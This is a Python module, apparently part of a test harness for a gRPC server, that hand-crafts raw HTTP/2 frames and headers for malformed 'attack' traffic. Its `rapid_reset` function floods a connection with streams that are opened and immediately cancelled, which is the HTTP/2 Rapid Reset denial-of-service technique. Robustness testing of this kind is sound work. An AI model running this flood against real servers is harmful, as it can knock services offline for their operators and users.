"""Raw HTTP/2 for attacks that no gRPC client would make: frames of RFC 9113, uncompressed headers of RFC 7541."""

import contextlib
import socket
import struct

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING = 0, 1, 3, 4, 6
ACK = 1
END_HEADERS = 4


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """A frame of any kind, flags and stream."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def header(name: str, value: str) -> bytes:
    """A literal header field without indexing."""
    return b"\x00" + b"".join(bytes([len(text)]) + text.encode() for text in (name, value))


def request(method: str, *more: tuple[str, str]) -> bytes:
    """The header block of a gRPC call."""
    fields = [(":method", "POST"), (":scheme", "http"), (":path", method), (":authority", "learner")]
    fields += [("te", "trailers"), ("content-type", "application/grpc"), *more]
    return b"".join(header(*field) for field in fields)


def call(stream: int, block: bytes) -> bytes:
    """HEADERS that open a stream, which is odd."""
    return frame(HEADERS, END_HEADERS, stream, block)


def reset(stream: int) -> bytes:
    """RST_STREAM: the call is cancelled."""
    return frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def connect(address: str, timeout: float = 10.0) -> socket.socket:
    """A TCP connection on which nothing was sent."""
    host, port = address.rsplit(":", 1)
    return socket.create_connection((host, int(port)), timeout)


def begin(connection: socket.socket) -> None:
    """The client's part of the handshake; without the acknowledgement a server would hardly take a call."""
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
    received = b""
    while len(received) < 9 + int.from_bytes(received[:3], "big"):
        received += connection.recv(9)
    connection.sendall(frame(SETTINGS, ACK, 0))


def rapid_reset(connection: socket.socket, block: bytes, count: int) -> None:
    """Opens and cancels up to `count` calls as fast as they are taken."""
    with contextlib.suppress(OSError):  # cut, or no longer read
        for first in range(1, 2 * count, 400):
            streams = range(first, first + 400, 2)
            connection.sendall(b"".join(call(stream, block) + reset(stream) for stream in streams))
            _discard(connection)


def _discard(connection: socket.socket) -> None:
    timeout = connection.gettimeout()
    connection.settimeout(0.0)
    with contextlib.suppress(BlockingIOError):
        while connection.recv(1 << 16):
            pass
    connection.settimeout(timeout)


def receives(connection: socket.socket, expected: bytes) -> bool:
    """Whether the peer sends these bytes before it closes the connection, or a timeout."""
    received = b""
    with contextlib.suppress(OSError):
        while expected not in received and (more := connection.recv(1 << 16)):
            received += more
    return expected in received
